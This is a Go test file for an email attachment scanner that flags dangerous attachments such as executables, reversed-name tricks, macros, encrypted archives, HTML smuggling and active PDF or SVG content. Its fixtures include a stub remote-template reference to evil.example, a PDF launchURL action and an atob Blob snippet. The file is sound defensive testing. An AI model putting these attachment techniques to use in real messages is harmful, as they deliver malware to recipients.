package attachment_test

import (
	"archive/zip"
	"bytes"
	"context"
	"slices"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/bienvu/bienvu/internal/analysis/attachment"
	"github.com/bienvu/bienvu/internal/analysis/subject"
	"github.com/bienvu/bienvu/internal/analysis/view"
	"github.com/bienvu/bienvu/internal/mail"
)

func archive(t testing.TB, flags uint16, names ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, name := range names {
		f, err := w.CreateHeader(&zip.FileHeader{Name: name, Flags: flags})
		if err != nil {
			t.Fatal(err)
		}
		body := "x"
		if name == "word/_rels/settings.xml.rels" {
			body = `<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`
		}
		if _, err := f.Write([]byte(body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func ids(p *mail.Part, text string) []string {
	p.Attachment = true
	v := view.New(subject.Subject{Message: &mail.Message{Text: text, Parts: []*mail.Part{p}}})
	var out []string
	for _, f := range attachment.Check(context.Background(), v) {
		out = append(out, f.ID)
	}
	slices.Sort(out)
	return out
}

func TestCheck(t *testing.T) {
	t.Parallel()
	encrypted := archive(t, 0, "a.txt")
	encrypted[6] |= 1 // the local header
	if i := bytes.Index(encrypted, []byte("PK\x01\x02")); i > 0 {
		encrypted[i+8] |= 1 // the central directory
	}
	for name, c := range map[string]struct {
		part mail.Part
		text string
		want []string
	}{
		"a plain document":      {mail.Part{Name: "plan.pdf", Body: []byte("%PDF-1.7 plain")}, "", nil},
		"a program":             {mail.Part{Name: "setup.exe"}, "", []string{"attachment.executable"}},
		"two endings":           {mail.Part{Name: "facture.pdf.js"}, "", []string{"attachment.double-extension", "attachment.script"}},
		"a name with a version": {mail.Part{Name: "plan.v2.docx"}, "", nil},
		"a name turned around":  {mail.Part{Name: "fac\u202efdp.exe"}, "", []string{"attachment.executable", "attachment.reversed-name"}},
		"a shortcut":            {mail.Part{Name: "Facture.LNK"}, "", []string{"attachment.shortcut"}},
		"a disk":                {mail.Part{Name: "photos.iso"}, "", []string{"attachment.disk-image"}},
		"another content":       {mail.Part{Name: "a.pdf", TrueType: "application/zip"}, "", []string{"attachment.disguised"}},
		"macros":                {mail.Part{Name: "a.docm", Body: archive(t, 0, "word/vbaProject.bin")}, "", []string{"attachment.macro"}},
		"a remote template":     {mail.Part{Name: "a.docx", Body: archive(t, 0, "[Content_Types].xml", "word/_rels/settings.xml.rels")}, "", []string{"attachment.remote-template"}},
		"a program in a zip":    {mail.Part{Name: "a.zip", Body: archive(t, 0, "x/y.scr")}, "", []string{"attachment.danger-in-archive"}},
		"a harmless zip":        {mail.Part{Name: "a.zip", Body: archive(t, 0, "x/y.txt")}, "", nil},
		"a locked zip":          {mail.Part{Name: "a.zip", Body: encrypted}, "", []string{"attachment.encrypted"}},
		"and its key":           {mail.Part{Name: "a.zip", Body: encrypted}, "Mot de passe : 1234", []string{"attachment.encrypted", "attachment.password-given"}},
		"a broken zip":          {mail.Part{Name: "a.zip", Body: []byte("PK\x03\x04 no")}, "", []string{"attachment.unread"}},
		"a page that builds":    {mail.Part{Name: "a.html", Body: []byte("<html><script>new Blob([atob('x')])</script>")}, "", []string{"attachment.html", "attachment.smuggling"}},
		"a page that asks":      {mail.Part{Name: "a.htm", Body: []byte("<form><input type=password>")}, "", []string{"attachment.html", "attachment.html-form"}},
		"a picture that runs":   {mail.Part{Name: "a.svg", Body: []byte("<svg onload=x()>")}, "", []string{"attachment.svg-script"}},
		"an active document":    {mail.Part{Name: "a.pdf", Body: []byte("%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://a.example/'\\))>>>>endobj")}, "", []string{"attachment.pdf-active"}},
		"old macros":            {mail.Part{Name: "a.xls", Body: []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 _\x00V\x00B\x00A\x00_\x00P\x00R\x00O\x00J\x00E\x00C\x00T\x00")}, "", []string{"attachment.macro", "attachment.unread"}},
		"cut by the budget":     {mail.Part{Name: "a.bin", Cut: true}, "", []string{"attachment.unread"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(c.want, ids(&c.part, c.text)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func FuzzCheck(f *testing.F) {
	f.Add("a.zip", archive(f, 0, "a.exe"))
	f.Add("a.html", []byte("<svg"))
	f.Fuzz(func(_ *testing.T, name string, body []byte) { ids(&mail.Part{Name: name, Body: body}, "") })
}
